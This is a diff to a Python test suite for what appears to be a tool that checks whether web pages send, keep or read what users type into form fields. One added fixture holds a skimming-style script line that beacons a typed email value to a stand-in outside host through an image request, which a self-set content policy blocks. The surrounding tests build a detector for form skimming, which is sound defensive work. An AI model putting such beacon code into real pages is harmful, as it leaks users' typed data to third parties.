@@ -137,6 +137,12 @@ INNOCENT = {
         *(EMAIL, "m.oninput = () => post('/ev', JSON.stringify({ field: 'm', n: m.value.length, t: Date.now() }));"),
     ),
     "a draft that the shop keeps": (EMAIL, "m.oninput = () => localStorage.setItem('draft', m.value);"),
+    "what the page's own policy keeps back": (
+        EMAIL,
+        "const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy';"
+        "meta.content = `connect-src 'self'; img-src 'self'`; document.head.append(meta);"
+        "m.onblur = () => { post('/x', m.value).catch(() => {}); new Image().src = AT + '/y?v=' + m.value; };",
+    ),
     "a card that is checked in the page": (
         *(CARD, "m.oninput = () => { m.dataset.brand = m.value.startsWith('4') ? 'visa' : ''; };"),
     ),
@@ -203,6 +209,19 @@ def test_a_page_without_fields_costs_nothing(visit: Visitor) -> None:
 def test_a_field_that_throws_out_what_is_typed_is_left_open(visit: Visitor) -> None:
     facts, _, _ = typed(visit, EMAIL, "m.oninput = () => { m.value = ''; };")
     assert facts.read_by is None
+
+
+def test_a_page_that_is_never_at_rest_has_not_passed(visit: Visitor) -> None:
+    endless = "m.onblur = () => { const on = () => Promise.resolve().then(on); on(); };"
+    with Site({"/": page(f"{EMAIL}<script>{endless}</script>")}) as shop:
+        snapshot = visit(f"{shop.origin}/", plan=PLAN, images=False)
+    assert [(failure.step, failure.code) for failure in snapshot.failures] == [("canaries", "step-timeout")]
+    assert "typed_values" not in measure(snapshot).subjects
+
+
+def test_a_page_that_shows_something_else_has_not_passed(visit: Visitor) -> None:
+    facts, _, _ = typed(visit, EMAIL, "m.oninput = () => { document.body.innerHTML = '<p>Thanks</p>'; };")
+    assert (facts.sent_to, facts.read_by, facts.kept_in) == (None, None, None)
 
 
 def test_what_is_typed_into_a_frame_of_another_site_is_that_sites(visit: Visitor) -> None:
